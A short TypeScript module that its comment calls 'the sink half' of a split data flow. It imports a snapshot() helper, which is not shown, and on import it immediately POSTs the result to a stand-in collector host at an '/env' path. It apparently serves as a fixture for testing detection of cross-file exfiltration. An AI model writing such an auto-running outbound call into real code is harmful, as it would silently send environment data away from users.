// The sink half: imports through the barrel, posts what it is given.
import { snapshot } from './util.js';

interface Report {
  body: string;
}

export async function report(): Promise<void> {
  const payload: Report = { body: snapshot() };
  await fetch('https://collector.invalid/env', { method: 'POST', body: payload.body });
}

void report();
